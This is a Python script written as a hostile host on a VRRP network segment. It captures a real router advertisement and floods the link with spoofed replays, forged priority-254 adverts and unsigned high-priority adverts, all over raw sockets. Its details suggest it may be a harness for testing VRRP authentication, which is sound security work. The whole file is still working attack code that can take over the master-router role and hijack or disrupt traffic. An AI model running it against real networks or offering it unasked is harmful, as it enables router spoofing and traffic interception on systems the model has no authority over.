# A hostile third host on the VRRP link: captures one genuine advert from MASTER_SRC, then sends
# COUNT replays of it (spoofed source), COUNT forgeries (priority 254, checksum fixed, MAC kept)
# and COUNT unsigned adverts (priority 254) from its own address. Raw IPv4, TTL 255.
import socket, struct, sys, time
master_src, own_src, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
GROUP = '224.0.0.18'

def csum(b):
    if len(b) % 2: b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff

def vrrp_csum(msg, src):
    pseudo = socket.inet_aton(src) + socket.inet_aton(GROUP) + struct.pack('!BBH', 0, 112, len(msg))
    m = bytearray(msg); m[6:8] = b'\0\0'
    c = csum(pseudo + bytes(m)); m[6:8] = struct.pack('!H', c)
    return bytes(m)

rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
rx.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(own_src))
rx.settimeout(5)
while True:
    pkt, (src, _) = rx.recvfrom(2048)
    if src == master_src: break
ihl = (pkt[0] & 0x0f) * 4
payload = pkt[ihl:]
msglen = 8 + payload[3] * 4
tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
tx.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
tx.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own_src))

def send(src, body):
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0xc0, 0, 0, 0, 255, 112, 0, socket.inet_aton(src), socket.inet_aton(GROUP))
    tx.sendto(ip + body, (GROUP, 0))

forged = bytearray(payload[:msglen]); forged[2] = 254
forged = vrrp_csum(bytes(forged), master_src) + payload[msglen:]
unsigned = bytearray(payload[:msglen]); unsigned[2] = 254
unsigned = vrrp_csum(bytes(unsigned), own_src)
for _ in range(count):
    send(master_src, payload)
    send(master_src, forged)
    send(own_src, unsigned)
    time.sleep(0.02)
print('sent', count, 'each; captured', len(payload), 'bytes')
